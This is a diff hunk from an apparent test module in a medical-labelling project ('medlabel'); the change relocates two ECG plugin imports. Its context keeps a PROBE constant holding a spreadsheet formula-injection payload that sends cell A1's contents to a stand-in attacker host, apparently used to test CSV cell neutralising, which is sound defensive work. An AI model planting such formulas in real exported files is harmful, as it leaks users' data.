@@ -13,8 +13,8 @@ from medlabel.routing.generator import generate_pool, to_csv
 from medlabel.samples import _write_csv
 from medlabel.synthetic import synthetic_ecg
 from medlabel.tables import cell, neutralise
-from plugins.ecg import ecg_csv
-from plugins.ecg_read import EcgSignal
+from plugins.ingest.ecg import ecg_csv
+from plugins.ingest.ecg_read import EcgSignal
 
 PROBE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
